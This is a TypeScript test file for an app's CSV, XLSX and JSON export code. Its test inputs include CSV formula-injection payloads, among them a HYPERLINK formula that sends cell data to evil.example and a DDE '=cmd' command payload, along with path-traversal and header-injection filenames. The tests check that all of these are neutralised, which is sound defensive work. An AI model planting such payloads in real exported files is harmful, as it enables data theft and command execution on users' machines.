import assert from "node:assert/strict";
import { test } from "node:test";
import { ANY_CHARACTER } from "../../support/characters.ts";
import { fc } from "../../support/fast-check.ts";
import { csvLine } from "../../../src/app/export/csv.ts";
import { attachment } from "../../../src/app/export/disposition.ts";
import type { Format } from "../../../src/app/export/formats.ts";
import { jsonLength, makePiece, type Job, type Place } from "../../../src/app/export/pieces.ts";
import { columnName } from "../../../src/app/export/xlsx.ts";
import type { Timestamp } from "../../../src/base/units.ts";
import type { Cell, VisibleColumn } from "../../../src/sheets/snapshot.ts";
import { times } from "../../support/times.ts";
import { encode, snapshotOf } from "../rows.ts";
import { parseCsv, parseXml, readSheet, unzip } from "./unzip.ts";

const AT = Date.UTC(2026, 4, 9, 18, 30, 2) as Timestamp;

function exported(format: Format, columns: readonly VisibleColumn[], rows: readonly (readonly Cell[])[], over: Partial<Job> = {}): Buffer {
  const snapshot = snapshotOf(encode(columns, rows));
  const job: Job = { table: "t", format, mark: false, asOf: AT, order: undefined, from: 0, to: rows.length, ...over };
  const parts: Uint8Array[] = [];
  let place: Place | undefined;
  do {
    const made = makePiece(snapshot, job, structuredClone(place));
    parts.push(made.bytes);
    place = made.next;
  } while (place !== undefined);
  const bytes = Buffer.concat(parts);
  if (format === "json") assert.equal(bytes.length, jsonLength(snapshot, job));
  return bytes;
}

const named = (...names: string[]): VisibleColumn[] => names.map((name) => ({ name, type: "auto" }));

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=1+1",
  "+1",
  "-1",
  "@SUM(1)",
  "\t=1",
  "\ttab",
  "\r=1",
  "\n=1",
  "\0=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  " =1",
  "\u200B=1",
  "\uFEFF@x",
  "\u00A0-1",
  "=cmd|' /C calc'!A0",
];
const HARMLESS = ["a=1", "1-2", "x@example.org", "'=1", "007", "1e5", "–", "€5", "🎲", "é"];

test("CSV: what a spreadsheet program would take for a formula is marked as text, numbers and all else stay as they are", () => {
  for (const text of FORMULAS) assert.deepEqual(parseCsv(csvLine([text, "x"])), [[`'${text}`, "x"]], JSON.stringify(text));
  for (const text of HARMLESS) assert.equal(csvLine([text, "x"]), `${text},x\r\n`);
  assert.equal(csvLine([-1, 1.5, 1e21, true, false, null, "-1"]), "-1,1.5,1e+21,TRUE,FALSE,,'-1\r\n");
  assert.equal(csvLine(['a "b"', "a,b", "a\r\nb", "a;b", " a", "a "]), '"a ""b""","a,b","a\r\nb","a;b"," a","a "\r\n');
  assert.equal(csvLine([null]), '""\r\n');
});

test("CSV: any text is one field that reads back as it was, but for the mark, and lone halves of characters", () => {
  const text = fc.string({
    unit: fc.oneof(fc.constantFrom(...Array.from("=+-@\t\r\n\0\"',;＝ a🎲")), fc.string({ unit: ANY_CHARACTER, minLength: 1 })),
  });
  fc.assert(
    fc.property(
      fc.array(
        text.filter((t) => t !== ""),
        { minLength: 1, maxLength: 5 },
      ),
      (cells) => {
        const [row = [], ...more] = parseCsv(csvLine(cells));
        assert.deepEqual([row.length, more.length], [cells.length, 0]);
        for (const [i, cell] of cells.entries()) {
          const read = row[i] ?? "";
          assert.ok(read === cell || read === `'${cell}`);
          assert.doesNotMatch(read, /^(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/);
        }
      },
    ),
    { numRuns: times(100) },
  );
});

const HOSTILE: readonly string[] = [
  ...FORMULAS,
  ...HARMLESS,
  "<a href='x'>&amp; \"q\"</a>",
  "]]>",
  "_x0041_ _x0000_",
  "\u0000\u0001\u0008\u000B\u001F\u007F\u0085\uFFFE\uFFFF",
  "line\r\nline\rline\nline",
  " blanks  ",
  "👩‍👩‍👧 𝕏 ﷽",
];

test("XLSX: types stay, text is text whatever it holds, and the file is a sound package", () => {
  const rows = HOSTILE.map((text, i) => [text, i - 3.5, i % 2 === 0, null]);
  const bytes = exported("xlsx", named("text", "=number", "yes & no", "none"), rows);
  assert.deepEqual(
    [...unzip(bytes).keys()],
    ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"],
  );
  const [head, ...body] = readSheet(bytes);
  assert.deepEqual(
    [...(head?.values() ?? [])].map(({ value }) => value),
    ["text", "=number", "yes & no", "none"],
  );
  for (const [i, text] of HOSTILE.entries()) {
    const row = body[i];
    assert.equal(row?.get("A")?.value, text, JSON.stringify(text));
    assert.equal(row?.get("A")?.style, FORMULAS.includes(text) || text.startsWith("\0") ? 4 : 0);
    assert.deepEqual([row?.get("B")?.value, row?.get("C")?.value, row?.has("D")], [i - 3.5, i % 2 === 0, false]);
  }
});

test("half characters become U+FFFD in CSV and XLSX; JSON keeps the escape", () => {
  const rows = [["a\uD800b", "\uDC00"]];
  assert.equal(exported("csv", named("a", "b"), rows).toString(), "a,b\r\na\uFFFDb,\uFFFD\r\n");
  const [, row] = readSheet(exported("xlsx", named("a", "b"), rows));
  assert.deepEqual([row?.get("A")?.value, row?.get("B")?.value], ["a\uFFFDb", "\uFFFD"]);
  assert.deepEqual(JSON.parse(exported("json", named("a", "b"), rows).toString()), [{ a: "a\uD800b", b: "\uDC00" }]);
});

test("XLSX: dates of a date column are dates, in UTC where they name a zone; what Excel can't count stays text", () => {
  const columns: VisibleColumn[] = [
    { name: "id", type: "auto" },
    { name: "at", type: "date" },
  ];
  const cases: readonly (readonly [string, string | number, number])[] = [
    ["1970-01-01", 25_569, 2],
    ["2026-07-28", 46_231, 2],
    ["2026-07-28T18:00", 46_231.75, 3],
    ["2026-07-28T18:00:00Z", 46_231.75, 3],
    ["2026-07-28T01:00:00.000000+01:00", 46_231, 3],
    ["1900-03-01", 61, 2],
    ["9999-12-31", 2_958_465, 2],
    ["1900-02-28", "1900-02-28", 0],
    ["0099-01-01", "0099-01-01", 0],
    ["9999-12-31T23:00:00-05:00", "9999-12-31T23:00:00-05:00", 0],
    ["2026-07-28T18:00:00+99:99", "2026-07-28T18:00:00+99:99", 0],
  ];
  const rows = cases.map(([text], i) => [i, text]);
  const [, ...body] = readSheet(exported("xlsx", columns, rows));
  for (const [i, [text, value, style]] of cases.entries()) assert.deepEqual(body[i]?.get("B"), { value, style }, text);
  const [, plain] = readSheet(exported("xlsx", named("id", "at"), [[1, "2026-07-28"]]));
  assert.deepEqual(plain?.get("B"), { value: "2026-07-28", style: 0 }, "a column of which nothing is said has no dates");
});

test("50,000 characters: whole in CSV and JSON, cut with a word in XLSX, never through a character", () => {
  const long = "x".repeat(50_000);
  const faces = `x${"🎲".repeat(24_999)}`;
  const rows = [[long, faces]];
  assert.deepEqual(parseCsv(exported("csv", named("a", "b"), rows).toString())[1], [long, faces]);
  assert.deepEqual(JSON.parse(exported("json", named("a", "b"), rows).toString()), [{ a: long, b: faces }]);
  const [, row] = readSheet(exported("xlsx", named("a", "b"), rows));
  for (const column of ["A", "B"]) {
    const value = String(row?.get(column)?.value);
    assert.ok(value.length <= 32_767 && value.length >= 32_766 && value.isWellFormed());
    assert.match(value, /… \[cut: a workbook takes 32767 characters\]$/);
  }
  const [, whole] = readSheet(exported("xlsx", named("a", "b"), [["y".repeat(32_767), 1]]));
  assert.equal(whole?.get("A")?.value, "y".repeat(32_767));
});

test("an empty table is its names", () => {
  assert.equal(exported("csv", named("a", "-b"), []).toString(), "a,'-b\r\n");
  assert.equal(exported("csv", named("a"), [], { mark: true }).toString(), "\uFEFFa\r\n");
  assert.equal(exported("json", named("a"), []).toString(), "[]");
  assert.equal(readSheet(exported("xlsx", named("a"), [])).length, 1);
});

test("many pieces join to what one would be, in the chosen order", () => {
  const rows = Array.from({ length: 8_000 }, (_, i) => [`p${i}`, `Joueur n° ${i}`, i]);
  const columns = named("id", "name", "score");
  const order = Uint32Array.from({ length: 7_000 }, (_, i) => 7_999 - i);
  const over = { order, from: 10, to: 6_990 };
  const expected = rows.toReversed().slice(10, 6_990);
  assert.deepEqual(
    parseCsv(exported("csv", columns, rows, over).toString()).slice(1),
    expected.map((row) => row.map(String)),
  );
  const objects = expected.map(([id, name, score]) => ({ id, name, score }));
  assert.deepEqual(JSON.parse(exported("json", columns, rows, over).toString()), objects);
  const [, ...sheet] = readSheet(exported("xlsx", columns, rows, over));
  assert.deepEqual(
    sheet.map((row) => ["A", "B", "C"].map((column) => row.get(column)?.value)),
    expected,
  );
});

test("2,000 columns, and names that are properties of every object", () => {
  const names = [...Array.from({ length: 2_000 }, (_, i) => `c${i}`), "__proto__", "constructor", "7"];
  const row = names.map((_, i) => i);
  const [head, body] = readSheet(exported("xlsx", named(...names), [row]));
  assert.deepEqual(
    [...(head?.values() ?? [])].map(({ value }) => value),
    names,
  );
  assert.deepEqual(
    [...(body?.values() ?? [])].map(({ value }) => value),
    row,
  );
  assert.deepEqual(parseCsv(exported("csv", named(...names), [row]).toString()), [names, row.map(String)]);
  assert.deepEqual([0, 25, 26, 701, 702, 16_383].map(columnName), ["A", "Z", "AA", "ZZ", "AAA", "XFD"]);
});

test("a sheet's title is one that Excel takes", () => {
  const title = (table: string): string | undefined => {
    const workbook = parseXml(unzip(exported("xlsx", named("a"), [], { table })).get("xl/workbook.xml") ?? "");
    return workbook.children[0]?.children[0]?.attributes["name"];
  };
  assert.deepEqual(["players", "x".repeat(64), "History", "a/b:c[d]", "'q'", ""].map(title), [
    "players",
    "x".repeat(31),
    "History_",
    "a_b_c_d_",
    "_q_",
    "Sheet1",
  ]);
});

test("the same rows give the same bytes, whenever they are asked for", () => {
  const rows = Array.from({ length: 9_000 }, (_, i) => [`p${i}`, "x".repeat(50)]);
  for (const format of ["csv", "json", "xlsx"] as const)
    assert.ok(exported(format, named("a", "b"), rows).equals(exported(format, named("a", "b"), rows)));
});

test("names of files: ASCII in the header, the whole name beside it, no way out of the folder", () => {
  assert.equal(attachment("players-2026-05-09.csv"), 'attachment; filename="players-2026-05-09.csv"');
  assert.equal(attachment("Équipes 100%.csv"), `attachment; filename="_quipes 100_.csv"; filename*=UTF-8''%C3%89quipes%20100%25.csv`);
  assert.equal(attachment('../../e"t\r\nc: x'), 'attachment; filename="__.._e_t__c_ x"');
  assert.equal(
    attachment("a\uD800(b)*'\u202Egpj.exe"),
    `attachment; filename="a_(b)___gpj.exe"; filename*=UTF-8''a%EF%BF%BD%28b%29_%27_gpj.exe`,
  );
});
